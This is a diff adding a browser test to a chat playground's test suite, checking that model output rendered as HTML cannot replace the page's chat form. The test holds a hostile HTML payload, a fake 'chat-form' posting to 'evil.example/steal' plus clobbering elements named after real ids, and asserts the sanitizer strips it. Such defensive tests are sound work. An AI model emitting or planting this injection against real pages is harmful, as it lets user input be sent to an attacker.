@@ -190,3 +190,19 @@ def test_markdown_is_rendered_and_sanitized(page, problems):
     problems[:] = [p for p in problems if "inline event handler" not in p]
     assert "<strong>b</strong>" in html
     assert not re.search(r"onerror|<script|javascript:", html), html
+
+
+def test_model_output_cannot_take_over_the_chat_form(page):
+    sign_in(page)
+    hostile = ('<form id="chat-form" action="https://evil.example/steal"><input id="prompt" name="q">'
+               '<button type="submit">go</button></form><a id="send" name="messages">x</a>')
+    shown = page.evaluate("(s) => window.raylmPlayground.show(s).querySelector('.content').innerHTML", hostile)
+    assert not re.search(r"<form|<input|<button|id=\"(chat-form|prompt|send)\"", shown), shown
+    start = page.url
+    page.select_option("#model", "tiny")
+    page.fill("#max-tokens", "2")
+    page.fill("#prompt", "Hello")
+    with page.expect_request(lambda r: r.url.endswith("/v1/chat/completions")):
+        page.press("#prompt", "Enter")  # the page's own form sends, to its own API
+    expect(page.locator("#messages .message.assistant").last).to_have_attribute("data-state", "done")
+    assert page.url == start
